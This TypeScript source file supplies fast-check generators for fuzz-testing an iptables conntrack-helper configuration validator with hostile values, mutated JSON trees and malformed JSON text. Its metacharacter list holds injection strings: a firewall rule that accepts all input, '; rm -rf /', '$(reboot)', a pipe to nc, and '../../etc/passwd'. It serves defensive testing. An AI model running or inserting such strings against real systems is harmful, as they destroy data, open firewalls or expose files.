/**
 * Hostile-input generators shared by the property suites. Every run prints its seed; `CTH_FC_SEED=<n>`
 * replays it (fast-check also prints the failing path, `CTH_FC_PATH` replays that exact case).
 */
import * as fc from "fast-check";
import { KERNEL_HELPERS } from "../../lib/catalog.ts";

export function fcParams(name: string, numRuns: number): fc.Parameters<unknown> {
  const seed = process.env.CTH_FC_SEED ? Number(process.env.CTH_FC_SEED) : Date.now() % 2 ** 31;
  const path = process.env.CTH_FC_PATH;
  // Printed so a failing CI run can be replayed locally with the same inputs.
  console.log(`[hostile] ${name}: seed=${seed} runs=${numRuns} (replay: CTH_FC_SEED=${seed})`);
  return { seed, numRuns, ...(path ? { path } : {}), endOnFailure: true, verbose: 1 };
}

/** Strings that mean something to iptables-restore, a shell, JSON or a terminal. */
export const METACHARACTERS: readonly string[] = [
  '"',
  "'",
  "\\",
  "\n",
  "\r\n",
  "\t",
  "\u0000",
  "\u001b[2J",
  " ",
  "#",
  "*raw",
  "*filter",
  "COMMIT",
  "\nCOMMIT\n*filter\n-A INPUT -j ACCEPT\n",
  "-A PREROUTING -j ACCEPT",
  " -j DROP",
  "--helper ftp",
  ":CTH-HELPERS - [0:0]",
  "-X CTH-HELPERS",
  "$(reboot)",
  "`id`",
  "; rm -rf /",
  "| nc 198.18.0.1 1",
  "&&",
  "../../etc/passwd",
  "%s%n",
  "\u202e",
  "\u200b",
  "\ufeff",
  "\ud800",
  "ﬀ",
  "İ",
  "ftp\u0000",
  "FTP",
  "Ftp",
  " ftp",
  "ftp ",
  "h323",
  "h.323",
  "nf_conntrack_ftp",
  "💥",
];

export const PROTO_KEYS: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
];

const HELPER_PAIRS = KERNEL_HELPERS.flatMap((spec) =>
  spec.protocols.map((protocol) => ({ helper: spec.name, protocol })),
);
/** Neutron's alias the schemas must resolve (h323 -> RAS / Q.931). */
const ALIAS_PAIRS = [
  { helper: "h323", protocol: "udp" as const },
  { helper: "h323", protocol: "tcp" as const },
];

export const uuidArb = fc.uuid().map((u) => u.toLowerCase());

/** A helper the catalog accepts, on a port drawn so edges (1, 65535) come up often. */
export const validHelperArb = (withAlias: boolean) =>
  fc.record({
    id: uuidArb,
    pair: fc.constantFrom(...HELPER_PAIRS, ...(withAlias ? ALIAS_PAIRS : [])),
    port: fc.oneof(fc.integer({ min: 1, max: 65_535 }), fc.constantFrom(1, 2, 65_534, 65_535)),
  });

/** A value of a wrong or hostile kind, for any field. */
export const hostileValueArb: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...METACHARACTERS),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 20 }),
  fc.constantFrom(
    null,
    true,
    false,
    0,
    -1,
    65_536,
    -0,
    1.5,
    21.0000001,
    1e308,
    -1e308,
    2 ** 53 + 1,
    Number.MAX_SAFE_INTEGER,
    "",
    "21",
    "0x15",
    "1e3",
    [],
    {},
    [21],
    { value: 21 },
  ),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.string({ maxLength: 300 }),
  fc.constantFrom("x".repeat(33), "x".repeat(65), "a".repeat(129), "a".repeat(5000)),
);

/** A string with metacharacters spliced into something that otherwise looks plausible. */
export const splicedArb = (plausible: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc
    .tuple(plausible, fc.constantFrom(...METACHARACTERS), fc.nat(64))
    .map(
      ([base, meta, at]) => base.slice(0, at % (base.length + 1)) + meta + base.slice(at % (base.length + 1)),
    );

/**
 * Mutations applied to a valid JSON object tree: replace a value, add an unknown or prototype key, remove a
 * key, wrap in an array. Each returns a new tree; the input stays untouched.
 */
export type Mutation =
  | { kind: "replace"; at: number; value: unknown }
  | { kind: "splice"; at: number; meta: string }
  | { kind: "extra"; at: number; key: string; value: unknown }
  | { kind: "remove"; at: number }
  | { kind: "wrap"; at: number };

export const mutationArb: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant("replace" as const), at: fc.nat(), value: hostileValueArb }),
  fc.record({ kind: fc.constant("splice" as const), at: fc.nat(), meta: fc.constantFrom(...METACHARACTERS) }),
  fc.record({
    kind: fc.constant("extra" as const),
    at: fc.nat(),
    key: fc.oneof(fc.constantFrom(...PROTO_KEYS), fc.string({ maxLength: 12 })),
    value: hostileValueArb,
  }),
  fc.record({ kind: fc.constant("remove" as const), at: fc.nat() }),
  fc.record({ kind: fc.constant("wrap" as const), at: fc.nat() }),
);

type Json = unknown;

/** Every (container, key) slot in a JSON tree, depth first (the root's own slot excluded). */
function slots(tree: Json): { parent: Record<string, unknown> | unknown[]; key: string | number }[] {
  const found: { parent: Record<string, unknown> | unknown[]; key: string | number }[] = [];
  const walk = (node: Json) => {
    if (Array.isArray(node)) {
      node.forEach((child, index) => {
        found.push({ parent: node, key: index });
        walk(child);
      });
    } else if (node !== null && typeof node === "object") {
      for (const key of Object.keys(node)) {
        found.push({ parent: node as Record<string, unknown>, key });
        walk((node as Record<string, unknown>)[key]);
      }
    }
  };
  walk(tree);
  return found;
}

function containers(tree: Json): (Record<string, unknown> | unknown[])[] {
  const found: (Record<string, unknown> | unknown[])[] = [];
  const walk = (node: Json) => {
    if (Array.isArray(node)) {
      found.push(node);
      node.forEach(walk);
    } else if (node !== null && typeof node === "object") {
      found.push(node as Record<string, unknown>);
      Object.values(node).forEach(walk);
    }
  };
  walk(tree);
  return found;
}

/** Applies mutations to a deep copy; `__proto__` keys are defined as own properties, as JSON.parse would. */
export function mutate<T>(tree: T, mutations: readonly Mutation[]): unknown {
  const copy = structuredClone(tree) as Json;
  for (const mutation of mutations) {
    if (mutation.kind === "extra") {
      const targets = containers(copy).filter((node) => !Array.isArray(node));
      const target = targets[mutation.at % Math.max(1, targets.length)];
      if (target) {
        Object.defineProperty(target, mutation.key, {
          value: mutation.value,
          enumerable: true,
          writable: true,
          configurable: true,
        });
      }
      continue;
    }
    const all = slots(copy);
    const slot = all[mutation.at % Math.max(1, all.length)];
    if (!slot) continue;
    const { parent, key } = slot;
    const current = (parent as Record<string | number, unknown>)[key];
    switch (mutation.kind) {
      case "replace":
        (parent as Record<string | number, unknown>)[key] = mutation.value;
        break;
      case "splice":
        (parent as Record<string | number, unknown>)[key] =
          typeof current === "string"
            ? current + mutation.meta
            : `${JSON.stringify(current) ?? "null"}${mutation.meta}`;
        break;
      case "remove":
        if (Array.isArray(parent)) parent.splice(key as number, 1);
        else delete parent[key as string];
        break;
      case "wrap":
        (parent as Record<string | number, unknown>)[key] = [current];
        break;
    }
  }
  return copy;
}

/**
 * Raw JSON text forms that JSON.stringify cannot produce: duplicate keys (the last wins in JSON.parse, so
 * a validator that looked at the first copy would be fooled), huge exponents, deep nesting, lone escapes.
 */
export const rawTwistArb = fc.oneof(
  fc.record({
    kind: fc.constant("duplicate-key" as const),
    at: fc.nat(),
    value: hostileValueArb,
    hostileLast: fc.boolean(),
  }),
  fc.record({
    kind: fc.constant("huge-number" as const),
    text: fc.constantFrom(
      "1e999",
      "-1e999",
      "1e-999",
      "123456789012345678901234567890",
      "21.0",
      "2.1e1",
      "-0",
    ),
  }),
  fc.record({ kind: fc.constant("deep" as const), depth: fc.constantFrom(64, 1_000, 20_000) }),
  fc.record({
    kind: fc.constant("escape" as const),
    text: fc.constantFrom("\\u0000", "\\ud800", "\\u202e", "\\n", '\\"'),
  }),
);
export type RawTwist = typeof rawTwistArb extends fc.Arbitrary<infer T> ? T : never;

/**
 * JSON text in which the `at`-th object key (depth first) appears twice: once with its own value and once
 * with `value`, hostile copy first or last. JSON.parse keeps the last copy.
 */
export function stringifyWithDuplicate(
  tree: unknown,
  at: number,
  value: unknown,
  hostileLast: boolean,
): string {
  let total = 0;
  const count = (node: unknown) => {
    if (Array.isArray(node)) node.forEach(count);
    else if (node !== null && typeof node === "object") {
      for (const child of Object.values(node)) {
        total++;
        count(child);
      }
    }
  };
  count(tree);
  const target = total === 0 ? -1 : at % total;
  let seen = 0;
  const write = (node: unknown): string => {
    if (Array.isArray(node)) return `[${node.map(write).join(",")}]`;
    if (node === null || typeof node !== "object") return JSON.stringify(node) ?? "null";
    const parts: string[] = [];
    for (const [key, child] of Object.entries(node)) {
      const index = seen++;
      const own = `${JSON.stringify(key)}:${write(child)}`;
      if (index !== target) {
        parts.push(own);
        continue;
      }
      const hostile = `${JSON.stringify(key)}:${JSON.stringify(value) ?? "null"}`;
      parts.push(...(hostileLast ? [own, hostile] : [hostile, own]));
    }
    return `{${parts.join(",")}}`;
  };
  return write(tree);
}

/** Serialises `tree` and applies one textual twist. */
export function twistJson(tree: unknown, twist: RawTwist): string {
  const text = JSON.stringify(tree) ?? "null";
  switch (twist.kind) {
    case "duplicate-key":
      return stringifyWithDuplicate(tree, twist.at, twist.value, twist.hostileLast);
    case "huge-number": {
      const numbers = [...text.matchAll(/:(-?\d+(?:\.\d+)?)/g)];
      const hit = numbers[0];
      if (!hit || hit.index === undefined) return text.replace(/^\{/, `{"n":${twist.text},`);
      return `${text.slice(0, hit.index)}:${twist.text}${text.slice(hit.index + hit[0].length)}`;
    }
    case "deep": {
      const nested = `${"[".repeat(twist.depth)}${"]".repeat(twist.depth)}`;
      return text.replace(/^\{/, `{"nested":${nested},`);
    }
    case "escape": {
      const strings = [...text.matchAll(/:"((?:[^"\\]|\\.)*)"/g)];
      const hit = strings[0];
      if (!hit || hit.index === undefined) return text;
      const end = hit.index + hit[0].length - 1;
      return text.slice(0, end) + twist.text + text.slice(end);
    }
  }
}

/** Every string value and key in a parsed tree (for "nothing unsafe got through" checks). */
export function allStrings(tree: unknown): string[] {
  const out: string[] = [];
  const walk = (node: unknown) => {
    if (typeof node === "string") out.push(node);
    else if (Array.isArray(node)) node.forEach(walk);
    else if (node !== null && typeof node === "object") {
      for (const [key, value] of Object.entries(node)) {
        out.push(key);
        walk(value);
      }
    }
  };
  walk(tree);
  return out;
}
